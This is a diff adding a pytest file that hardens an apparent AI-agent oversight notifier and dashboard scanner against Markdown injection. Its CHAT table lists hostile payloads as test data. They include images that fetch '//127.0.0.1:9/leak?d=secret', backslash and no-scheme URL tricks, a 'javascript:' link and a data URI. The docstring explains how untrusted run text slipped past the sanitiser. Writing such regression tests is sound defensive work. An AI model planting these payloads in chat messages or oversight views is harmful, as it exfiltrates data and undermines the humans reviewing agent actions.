@@ -1,0 +1,100 @@
+"""Red-team variants found in a second hunt (issue 19): chat text a Markdown chat reads, and
+Markdown-rendering widget options the scan did not look at.
+
+- A "Slack-compatible" webhook's `text` is read as Markdown by the chats that take it
+  (Mattermost, Rocket.Chat): `inert.chat` escaped only Slack's `&<>` and defanged `scheme://`,
+  so `![x](//host/leak?d=secret)` (no scheme), `\\\\host` or `/\\host` (which a browser reads
+  as `//host`) became an image the chat fetches, or a link.
+- `st.radio`, `st.segmented_control` and `st.pills` draw their options as Markdown; the scan
+  read only the label, so `format_func=lambda r: r.goal` or `options=[run.goal]` passed it.
+"""
+
+from __future__ import annotations
+
+import textwrap
+
+import pytest
+from markdown_it import MarkdownIt
+
+from agent_core.oversight import inert
+from agent_core.oversight.notify.formats import slack_payload, webhook_payload
+from agent_core.oversight.notify.notice import Notice
+from tests.oversight.test_inert_scan import findings
+
+WITNESS = "127.0.0.1:9"
+CHAT = {
+    "image, no scheme": f"![x](//{WITNESS}/leak?d=secret)",
+    "link, no scheme": f"[open](//{WITNESS}/link)",
+    "image, backslashes": f"![x](\\\\\\\\{WITNESS}/bs)",
+    "image, slash backslash": f"![x](/\\\\{WITNESS}/sb)",
+    "image, defanged scheme": f"![x](http://{WITNESS}/img)",
+    "image, angle url": f"![x](<//{WITNESS}/angle>)",
+    "link, javascript": "[click](javascript:alert(1))",
+    "image, data uri": "![x](data:image/png;base64,AAAA)",
+    "linked image": f"[![x](//{WITNESS}/i)](//{WITNESS}/l)",
+    "image, title": f'![x](//{WITNESS}/t "title")',
+    "image, spaces inside": f"![x]( //{WITNESS}/sp )",
+}
+_MD = MarkdownIt("commonmark")
+
+
+def _notice(text: str) -> Notice:
+    return Notice(
+        event="approval_requested",
+        run_id="r1",
+        goal=f"goal {text}",
+        headline="onloop run r1 waits for an approver's decision",
+        action=f"write {text}",
+        reason=f"why {text}",
+        risk="high",
+        role="approver",
+        approval_id=7,
+        link="https://onloop.example/?item=approval-7",
+    )
+
+
+@pytest.mark.parametrize("payload", CHAT.values(), ids=CHAT.keys())
+def test_chat_text_is_no_markdown_image_or_link(payload):
+    notice = _notice(payload)
+    for text in (
+        webhook_payload(notice)["text"],
+        slack_payload(notice)["text"],
+        inert.chat(payload),
+    ):
+        html = _MD.render(text)
+        assert "<img" not in html and "<a " not in html, html
+
+
+def test_chat_text_still_reads_as_the_words():
+    assert inert.chat("see [the docs](docs/x.md) and ![logo](logo.png)") == (
+        "see [the docs] (docs/x.md) and ![logo] (logo.png)"
+    )
+    assert inert.chat("a < b && c > d") == "a &lt; b &amp;&amp; c &gt; d"
+    assert inert.chat("f(x) [1]") == "f(x) [1]"
+
+
+def test_the_scan_reads_the_options_markdown_widgets_draw():
+    bad = textwrap.dedent(
+        """
+        st.radio("Pick a run", runs, format_func=lambda r: r.goal)
+        st.segmented_control("Step", options=[e.summary for e in events])
+        st.pills("Tool", tools, format_func=lambda t: f"{t.description} tool")
+        st.radio("Pick", ids, format_func=goals.get)
+        st.radio("Pick", options=[a.summary for a in pending])
+        """
+    )
+    found = findings(bad, "x.py", dashboard=True)
+    assert [line.split(":")[1] for line in found] == ["2", "3", "4", "5", "6"]
+
+
+def test_the_scan_passes_options_that_are_ours_or_inert():
+    good = textwrap.dedent(
+        """
+        st.radio("Pick a run", runs, format_func=lambda r: inert.markdown(r.goal))
+        st.segmented_control("View", list(VIEWS), format_func=VIEWS.__getitem__)
+        st.radio("Autonomy", [level.value for level in Autonomy])
+        st.radio("Mode", ["a", "b"], format_func=WORKSPACE_MODES.__getitem__)
+        st.selectbox("Run", runs, format_func=lambda r: inert.visible(r.goal))
+        """
+    )
+    assert findings(good, "x.py", dashboard=True) == []
